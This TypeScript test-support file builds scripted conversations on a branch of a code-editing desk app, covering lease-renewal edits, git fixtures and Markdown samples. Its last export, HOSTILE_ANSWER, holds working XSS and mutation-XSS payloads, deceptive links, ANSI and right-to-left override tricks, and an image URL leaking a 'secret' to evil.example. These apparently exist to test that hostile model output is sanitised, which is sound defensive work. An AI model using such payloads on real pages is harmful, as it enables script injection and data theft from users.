/** A branch in which an AI has had three turns, on the real desk with a scripted model. */
import { dirname, join } from 'node:path'
import type { Page } from 'playwright-core'
import { NO_USAGE, newSession, type Session, type SessionEntry } from '../../../../forge/ai/session.ts'
import type { Models } from '../../../../forge/desk/chat/models.ts'
import type { Conversation } from '../../../../forge/desk/contract/chat.ts'
import { commit, git } from '../../../support/git.ts'
import { type PageDesk, type PageDeskOptions, tabOf } from '../../../support/page-desk.ts'
import { until } from '../../../support/repository.ts'
import { modelsOf, type Script, ScriptedModel, type Step, write } from '../../../support/scripted-model.ts'
import { openTestDesk, type TestWindow } from '../../../support/served.ts'
import { openScene, SCENE_FILES, templateOf } from './page-scene.ts'

export const BRANCH = 'lease-renewal'
export const TOOL = 'tools/store_stats.ts'
export const OTHER_MODEL = 'openrouter/some/large-model'
const AT = { kind: 'branch', branch: BRANCH } as const

const BEFORE = `export const schema = {
  name: "store_stats",
  description: "Counts the queries of a store.",
  parameters: { type: "object", properties: { store: { type: "string" } } },
};

function queriesOf(source: string) {
  const queries = [];
  for (const line of source.split("\\n")) {
    if (line.includes("sql\`")) {
      queries.push(line.trim());
    }
  }
  return queries;
}

export async function execute(vfs, { store }) {
  const source = await vfs.readFile(\`src/store/\${store}.ts\`);
  return queriesOf(source).length;
}
`
/** The current source of the tool; BEFORE was approved. */
export const TOOL_SOURCE = BEFORE.replace(
  'queries of a store.',
  'queries of a store, and lists those without an index.',
).replace(
  '  return queriesOf(source).length;',
  '  const queries = queriesOf(source);\n  const migrations = await vfs.listFiles("src/store/migrations");\n  return { count: queries.length, migrations };',
)

const edit = (path: string, search: string, replace: string) => ({
  name: 'search_replace',
  arguments: { path, edits: [{ search, replace }] },
})

/** The past turns: their questions and what the model did. */
const PAST: { question: string; script: readonly Step[] }[] = [
  { question: 'Who holds a refused claim', script: [{ text: 'Nobody: the row is left as it was.' }] },
  {
    question: 'Renew before the lease ends',
    script: [
      { calls: [{ name: 'store_stats', arguments: { store: 'postgres' } }] },
      { text: 'It is renewed at 60 % of the time that is left.' },
      { text: 'Approve store_stats' },
    ],
  },
  {
    question:
      'Renewals must not pile up when Postgres is slow. Bound them, and give the job up cleanly when its lease can’t be renewed in time.',
    script: [
      {
        calls: [
          { name: 'get_lines', arguments: { path: 'src/queue/lease.ts', from: 24, to: 40 } },
          edit('src/queue/lease.ts', 'const RENEW_AT = 0.6', 'const RENEW_AT = 0.75'),
          write('test/lease-lost.test.ts', "import { test } from 'bun:test'\n\ntest('a lost lease', () => {})\n"),
        ],
      },
      {
        text: 'A keeper now has at most one renewal under way, each with a deadline of half the time left. After three misses it aborts the job with `LeaseLost` instead of letting it finish work that another worker may have begun.',
      },
      { text: 'Bound renewals and give up a lost lease' },
    ],
  },
]

/** The state folder of the desk in which the turns were made, beside the template repository. */
const stateOf = (template: string): string => join(dirname(template), 'state')

async function conversationIn(window: TestWindow): Promise<Conversation> {
  return (await window.ask({ ask: 'conversation', at: AT })) as Conversation
}

/** Runs a past turn with its scripted model, to its end. */
async function play(
  window: TestWindow,
  model: ScriptedModel,
  { question, script }: (typeof PAST)[number],
): Promise<void> {
  model.play(script)
  await window.ask({ ask: 'send', branch: BRANCH, text: question })
  await until(async () => {
    const { turn, approvals } = await conversationIn(window)
    for (const { path, oid } of approvals)
      await window.ask({ ask: 'approve tool', branch: BRANCH, path, oid, isApproved: true })
    return turn === undefined
  })
}

const turnsTemplate = templateOf(async path => {
  const options = { author: 'Mira Okafor <mira@example.com>' }
  const main = await commit(path, 'main', { ...SCENE_FILES, [TOOL]: BEFORE }, { ...options, message: 'Begin main' })
  for (const branch of ['retry-jitter', BRANCH, 'http-metrics'])
    await commit(path, branch, {}, { ...options, message: `Begin ${branch}`, parents: [main] })
  await git(path, 'pack-refs', '--all')
  const model = new ScriptedModel([])
  await using desk = await openTestDesk(path, { models: modelsOf(model), state: stateOf(path) })
  await using window = await desk.window()
  for (const file of ['src/queue/lease.ts', 'src/queue/types.ts', 'src/store/postgres.ts'])
    await window.ask({ ask: 'set context', branch: BRANCH, path: file, isWhole: true })
  const [first, second, third] = PAST
  if (!first || !second || !third) throw new Error('There are three turns.')
  await play(window, model, first)
  await play(window, model, second)
  // The search for the commits of turns ends at the first commit older than the conversation: this commit is not older.
  await commit(
    path,
    BRANCH,
    { [TOOL]: TOOL_SOURCE },
    { ...options, message: 'List the migrations', when: Math.ceil(Date.now() / 1_000) },
  )
  await play(window, model, third)
})

/** Tabs of three branches, of which the first shows its conversation. */
const LAYOUT = {
  tabs: [
    tabOf(BRANCH, ['src/queue/lease.ts', 'src/worker.ts', 'test/lease.test.ts'], ['src', 'src/queue', 'src/store']),
    tabOf('retry-jitter'),
    tabOf('http-metrics'),
  ],
  active: 0,
}

type ConversationOptions = Pick<PageDeskOptions, 'prepare'> & {
  model: ScriptedModel
  models?: Partial<Models>
  /** Whether the branch has its three turns. Default: true. */
  hasTurns?: boolean
}

/** Opens a desk whose branch has a conversation, with a scripted model. */
export async function openConversation({
  model,
  models,
  hasTurns = true,
  prepare,
}: ConversationOptions): Promise<PageDesk> {
  const template = await turnsTemplate()
  return await openScene({
    ...(hasTurns && { template: turnsTemplate, known: stateOf(template) }),
    ...{ models: modelsOf(model, { names: [model.name, OTHER_MODEL], ...models }), layout: LAYOUT },
    ...(prepare && { prepare }),
  })
}

export async function conversationOf(desk: PageDesk, branch = BRANCH): Promise<Conversation> {
  return await desk.ask<Conversation>({ ask: 'conversation', at: { kind: 'branch', branch } })
}

/** The file of a conversation of past turns, each with some calls of a tool and an answer. */
export function pastTurns(turns: readonly { question: string; calls: number; text: string }[]): string {
  const [model, usage] = ['openai/scripted', { ...NO_USAGE, input: 100, output: 10 }]
  const messages = turns.flatMap(({ question, calls, text }, index): SessionEntry[] => {
    const [turn, at] = [`past-${index}`, 1_790_000_000_000 + index * 600_000]
    const ids = Array.from({ length: calls }, (_, call) => `${turn}-${call}`)
    const named = { name: 'get_lines', arguments: { path: 'src/worker.ts' } }
    return [
      { kind: 'user', turn, at, text: question },
      { kind: 'answer', turn, model, blocks: ids.map(id => ({ type: 'call', id, ...named })), usage },
      ...ids.map(id => ({
        ...({ kind: 'result', turn, id, name: 'get_lines', text: '35 lines' } as const),
        ...{ isError: false, words: '35 lines', seconds: 0.2 },
      })),
      { kind: 'answer', turn, model, blocks: [{ type: 'text', text }], usage },
      { kind: 'end', turn, at: at + 60_000, how: 'done', model, usage, seconds: 60 },
    ]
  })
  return JSON.stringify({ ...newSession(), messages } satisfies Session)
}

/** A promise that is never settled. */
export const FOREVER: Promise<never> = new Promise(() => undefined)

/** Half a turn: it has changed two files, and answers until it is stopped. */
export const HALF_A_TURN: Script = [
  {
    calls: [
      edit('src/worker.ts', 'export class Worker {}', 'export class Worker {\n  claims = true\n}'),
      edit('src/queue/lease.ts', 'const RENEW_AT = ', 'export const RENEW_AT = '),
    ],
  },
  {
    text: 'A lease is in doubt from its first missed renewal until the next good one. The keeper knows that, so the worker asks `keeper.inDoubt` before each claim.',
    until: FOREVER,
  },
]

/** A text in pieces of `size` characters, each sent separately. */
export async function* inPieces(text: string, size: number): AsyncGenerator<string> {
  for (let from = 0; from < text.length; from += size) {
    yield text.slice(from, from + size)
    await new Promise(resolve => setImmediate(resolve))
  }
}

export const QUESTION = 'Now the worker: stop claiming while any lease is in doubt, and show it in the metrics.'

export async function ask(page: Page, text: string): Promise<void> {
  await page.getByRole('textbox', { name: 'Message', exact: true }).fill(text)
  await page.getByRole('button', { name: 'Send', exact: true }).click()
}

/** An answer with every kind of Markdown. */
export const RICH_ANSWER = `# What I changed

The keeper **bounds** its renewals; see [the design](docs/design.md) and [the manual](https://www.postgresql.org/docs/current/sql-select.html).
A *lease* that is lost is ~~kept~~ given up: \`LeaseLost\` &mdash; at once.

1. One renewal at a time
   - with a deadline
   - and a jitter
2. After three misses it aborts
   1. the job
   2. the claim

- [x] tests
- [ ] metrics

> Two workers never hold one lease.

| Case | Before | After |
|:-----|-------:|:-----:|
| slow store | 12 | 1 |
| lost lease | ∞ | 3 |

\`\`\`ts src/queue/lease.ts
const MAX_MISSES = 3
export async function keep(lease: Lease): Promise<void> {
  // Bounded: a slow store does not pile up.
  await renew(lease, { jitter: "full" })
}
\`\`\`

---

https://example.com/raw and ![a picture](https://example.com/p.png)`

/** An answer of a hostile model. */
export const HOSTILE_ANSWER = `<script>window.pwned = 1</script> <img src=x onerror="window.pwned=1"> <b onclick="pwned=1">bold?</b>

[click me](javascript:window.pwned=1) [data](data:text/html,<script>pwned=1</script>) [mail](mailto:a@example.com) [bank](https://bank.example@evil.example/)

![leak](https://evil.example/leak.png?q=secret) <https://evil.example/auto> https://evil.example/bare www.evil.example

<svg><style><img title="</style><img src=x onerror=pwned=1>"></style></svg>

\u001b[31mred\u001b[0m and \u202Etxt.exe\u202C turned

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">
`
